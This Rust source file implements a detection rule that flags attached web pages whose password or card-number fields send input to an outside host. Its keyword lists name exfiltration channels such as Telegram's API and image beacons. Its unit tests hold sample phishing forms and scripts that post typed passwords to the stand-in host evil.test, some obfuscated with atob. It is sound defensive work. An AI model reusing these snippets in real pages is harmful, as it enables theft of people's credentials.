//! An attached page with a field for a password whose form, or script, sends it to a site that the page has nothing else of.

use super::{Check, Heuristic};
use crate::artifact::Tree;
use crate::detect::Strength;
use crate::detect::scripts::{Bundle, pages, site};

pub(super) const RULE: Heuristic = Heuristic {
    id: "html-credential-form",
    strength: Strength::Medium,
    title_en: "An attached web page asks for a password or card number and sends it elsewhere",
    title_ja: "添付のWebページがパスワードやカード番号を入力させ、外部へ送ります",
    attack: &["T1566.001", "T1056.003"],
    page: include_str!("../../../docs/rules/html-credential-form.md"),
    check,
};

fn check(tree: &Tree, hit: &mut Check) {
    for page in pages(tree) {
        if let Some(shown) = sends_away(&page) {
            hit(page.holder.id, shown);
        }
    }
}

/// Ways in which a script sends what was typed.
const SENDING: &[&str] = &[
    "$.ajax",
    "$.post",
    "fetch(",
    "xmlhttprequest",
    "axios",
    "sendbeacon",
    "api.telegram.org",
    "emailjs",
    "new websocket",
    ".action=",
    ".action =",
];

/// A picture whose address carries what was typed. Counters of visits load pictures too, and carry nothing typed.
const PICTURES: &[&str] = &["new image", "createelement('img'", "createelement(\"img\""];

/// How a script makes a field for a password, in lower case and without blanks.
const MADE: &[&str] =
    &["\"type\",\"password\"", ".type=\"password\"", "\"type\":\"password\"", "{type:\"password\""];

/// Letters that a page shows, and bytes of its scripts, where these make all there is to see.
const LITTLE: usize = 600;
const SHORT: usize = 64 << 10;

/// Whether the scripts of a page that shows nothing by itself make a field for a password. Programs of whole sites,
/// which are longer, have one too.
fn makes_field(page: &Bundle) -> bool {
    let scripts = page.members().filter(|artifact| artifact.kind.id == "js");
    let names = |bytes: &[u8]| memchr::memmem::find(bytes, b"password").is_some();
    if !scripts.into_iter().any(|script| names(&script.bytes)) || page.shown() > LITTLE {
        return false;
    }
    let code = page.code();
    let plain: String = code.chars().filter(|c| !c.is_whitespace()).collect();
    let plain = plain.replace('\'', "\"");
    code.len() < SHORT && MADE.iter().any(|made| plain.contains(made))
}

/// The scripts of a page, and the texts that they put together, in lower case.
fn said(page: &Bundle) -> String {
    let texts = page.members().filter(|artifact| artifact.via == "script-texts");
    let texts: String = texts.map(|text| String::from_utf8_lossy(&text.bytes).to_ascii_lowercase()).collect();
    page.code() + "\n" + &texts
}

fn sends_away(page: &Bundle) -> Option<String> {
    let mut forms = page.leads("form-password").peekable();
    let is_made = forms.peek().is_none() && makes_field(page);
    if forms.peek().is_none() && !is_made {
        return None;
    }
    let own: Vec<String> = page.leads("link").chain(page.leads("base")).filter_map(site).collect();
    let is_foreign = |target: &&str| site(target).is_some_and(|host| !own.contains(&host));
    if let Some(target) = forms.find(is_foreign) {
        return Some(target.to_string());
    }
    let code = said(page);
    let is_sent =
        |word: &&&str| code.contains(**word) && (!PICTURES.contains(word) || code.contains(".value"));
    let sends = SENDING.iter().chain(PICTURES).find(is_sent);
    let is_open = || is_made || page.leads("form-password").any(str::is_empty);
    let by_script = || is_open() && (code.contains("://") || code.contains("atob"));
    let sends = sends.filter(|_| by_script()).map(|word| (*word).to_string());
    let decoded =
        || page.decoded().find(|layer| layer.kind.id == "html").map(|layer| format!("{} bytes", layer.size));
    sends.or_else(decoded)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detect::scripts::tests::hits;

    #[test]
    fn foreign_forms_hit() {
        for page in [
            "<html><img src='https://logo.office.example/l.png'><form method=post action='https://evil.test/n.php'><input type=password></form>",
            "<html><input type='password'><script>$.ajax({url: atob('aHR0cHM6Ly9hLnRlc3Q=')});</script>",
            "<form action='https://evil.test/p'><input name=passwd type=text></form>",
            "<form><input type=password><button formaction='https://evil.test/p'>Sign in</button></form>",
            "<form action='https://evil.test/pay'><input placeholder='Card number'><input name=exp></form>",
            "<form action='https://evil.test/pay'><input name=cvv></form>",
            "<html><script>f = document.createElement('form'); f.action = 'https://evil.test/r'; i.setAttribute('type', 'password'); f.append(i)</script>",
            "<html><input type=password id=p><script>x = new window['XMLHttp' + 'Request'](); x.open('POST', 'https://evil.test/w'); x.send(p.value)</script>",
            "<html><input type=password id=p><button onclick=\"document.createElement('img').src = 'https://evil.test/l?' + p.value\">",
            "<form action='https://evil.test/p'><input name=u style='-webkit-text-security: disc'></form>",
            "<html><form id=f><input type=password></form><script>f.action = atob('aHR0cHM6Ly9hLnRlc3Q=');</script>",
            "<html><div contenteditable style='-webkit-text-security:disc'></div><script>fetch('https://evil.test/' + p)</script>",
            "<html><input type=password id=p><script>new Image().src = 'https://evil.test/l?' + p.value</script>",
            "<html><input type=password id=p><script>w = new WebSocket('wss://evil.test/'); w.send(p.value)</script>",
        ] {
            assert_eq!(hits(&RULE, "a.html", page.as_bytes()).len(), 1, "{page}");
        }
    }

    #[test]
    fn own_forms_and_pages_without_one_do_not() {
        for page in [
            "<html><a href='https://www.shop.example/'>x</a><form action='https://login.shop.example/'><input type=password></form>",
            "<html><form action='/login'><input type=password></form>",
            "<html><script>i.setAttribute('type', 'text'); fetch('https://a.test/x'); say('password')</script>",
            "<html><input type=password><script>new Image().src = 'https://count.test/c.gif';</script>",
            "<html><form><input name=q style='-webkit-text-security: none'><button formaction='https://a.test/'></form>",
            "<html><form action='https://a.example/search'><input name=q></form>",
            "<html><form action='https://a.example/order'><input name=cardtype><input name=business_card></form>",
            "<html><form action='https://a.example/x'><input type=hidden name=password></form>",
        ] {
            assert_eq!(hits(&RULE, "a.html", page.as_bytes()), [""; 0], "{page}");
        }
    }
}
